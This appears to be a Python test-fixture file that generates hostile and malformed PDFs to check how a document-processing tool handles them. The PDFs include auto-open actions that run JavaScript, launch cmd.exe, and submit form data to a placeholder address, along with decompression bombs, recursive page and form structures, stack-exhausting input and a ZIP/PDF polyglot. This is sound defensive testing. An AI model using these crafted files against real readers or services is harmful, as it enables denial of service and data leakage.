"""PDF files with programs, bombs and pages of no size."""

from __future__ import annotations

import zlib
from pathlib import Path

from case import YEAR, Case, Put
from printing import blank, handmade, lettered, numbered, packed

LURE = b"http://192.0.2.1/x"
TEXT = lettered("Bao cao", "so hoa")


def made(content: bytes = TEXT, *more: bytes, page: bytes = b"") -> Put:
    def put(root: Path) -> None:
        handmade(root / YEAR / "report.pdf", content, *more, page=page)

    return put


def file(data: bytes) -> Put:
    def put(root: Path) -> None:
        (root / YEAR / "report.pdf").write_bytes(data)

    return put


def action(kind: bytes) -> Put:
    return made(page=b"/AA << /O << /Type /Action %s >> >>" % kind)


def bomb(root: Path) -> None:
    data = blank(1_000_000, 2000)
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(data), data)
    pages = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << >> >>"
    (root / YEAR / "report.pdf").write_bytes(numbered([*pages, page, stream]))


def layered() -> bytes:
    """A stream packed five times, of zeros within."""
    data = bytes(100_000_000)
    for _ in range(5):
        data = zlib.compress(data)
    return data


def filtered(root: Path) -> None:
    data = layered()
    filters = b"/FlateDecode " * 5
    stream = b"<< /Filter [%s] /Length %d >>\nstream\n%s\nendstream" % (filters, len(data), data)
    pages = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << >> >>"
    (root / YEAR / "report.pdf").write_bytes(numbered([*pages, page, stream]))


def ring(root: Path) -> None:
    pages = b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"
    (root / YEAR / "report.pdf").write_bytes(numbered([b"<< /Type /Catalog /Pages 2 0 R >>", pages]))


def many(root: Path) -> None:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 5003))
    pages = [b"<< /Type /Pages /Kids [%s] /Count 5000 >>" % kids]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources << >> >>"
    (root / YEAR / "report.pdf").write_bytes(numbered([b"<< /Type /Catalog /Pages 2 0 R >>", *pages, *[page] * 5000]))


FORM = b"/Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 6 0 R >> >>"
CASES = [
    Case("pdf, script", "run JavaScript", "counts-absent", action(b"/S /JavaScript /JS (app.alert\\(1\\))"), slow=True),
    Case("pdf, launches", "start a program", "counts-absent", action(b"/S /Launch /F (cmd.exe)"), slow=True),
    Case("pdf, address", "fetch an address", "counts-absent", action(b"/S /URI /URI (%s)" % LURE), slow=True),
    Case(
        "pdf, sends a form",
        "send what is typed in",
        "counts-absent",
        action(b"/S /SubmitForm /F (%s)" % LURE),
        slow=True,
    ),
    Case(
        "pdf, file elsewhere",
        "fetch a stream of a page",
        "pdf-damaged",
        made(TEXT, packed(b"", b"/F (\\\\\\\\192.0.2.1\\\\a) /FFilter /FlateDecode")),
        slow=True,
    ),
    Case("pdf, decompression bomb", "fill memory: 2 GB from 2 MB", "pdf-heavy", bomb, slow=True),
    Case("pdf, filters over filters", "fill memory by layers", "pdf-heavy", filtered, slow=True),
    Case(
        "pdf, a form within itself",
        "read without end",
        "counts-absent",
        made(TEXT + b" /X Do", packed(b"/X Do", FORM)),
        slow=True,
    ),
    Case("pdf, pages in a ring", "read without end", "pdf-damaged", ring, slow=True),
    Case("pdf, 5.000 pages", "take very long", "pdf-pages", many, slow=True),
    Case(
        "pdf, a page of no end",
        "fill memory by its size",
        "pdf-damaged",
        made(page=b"/MediaBox [0 0 1e30 1e30]"),
        slow=True,
    ),
    Case(
        "pdf, 300.000 letters",
        "take very long",
        "pdf-crowded",
        made(b"BT /F 9 Tf " + b"(aaaaaaaaaa) Tj " * 30_000 + b"ET"),
        slow=True,
    ),
    Case("pdf, 500.000 lines", "take very long", "pdf-crowded", made(TEXT + b" 0 0 m 9 9 l S" * 500_000), slow=True),
    Case("pdf, brackets without end", "exhaust the stack", "counts-absent", made(TEXT + b"[" * 500_000), slow=True),
    Case("pdf, saved states without end", "fill memory", "counts-absent", made(b"q " * 500_000 + TEXT), slow=True),
    Case(
        "pdf, encrypted",
        "ask for a password",
        "pdf-encrypted",
        file(
            b"%PDF-1.7\n1 0 obj\n<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -1 >>\nendobj\ntrailer << /Encrypt 1 0 R /Root 1 0 R /ID [(a)(a)] >>\n"  # noqa: E501
        ),
        slow=True,
    ),
    Case("pdf, cut short", "crash the reader", "pdf-damaged", file(b"%PDF-1.7\n1 0 obj\n<<"), slow=True),
    Case(
        "pdf, table of objects that lies",
        "crash the reader",
        "pdf-damaged",
        file(b"%PDF-1.7\nstartxref\n99999999999\n%%EOF"),
        slow=True,
    ),
    Case(
        "pdf, a number of a million digits",
        "take very long to read a number",
        "counts-absent",
        made(b"9" * 1_000_000 + b" 0 Td " + TEXT),
        slow=True,
    ),
    Case(
        "pdf, a page before a program",
        "be two kinds of file at once",
        "content-archive",
        file(b"PK\x05\x06" + bytes(18) + b"%PDF-1.7\n"),
    ),
]
